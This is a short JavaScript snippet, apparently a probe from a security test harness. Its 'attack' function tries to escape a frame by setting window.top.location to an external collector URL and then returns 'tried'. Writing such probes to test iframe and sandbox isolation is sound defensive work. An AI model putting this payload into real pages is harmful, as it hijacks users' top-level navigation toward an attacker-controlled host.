const attack = ({ collector }) => {
  window.top.location = `${collector}/top`;
  return "tried";
};
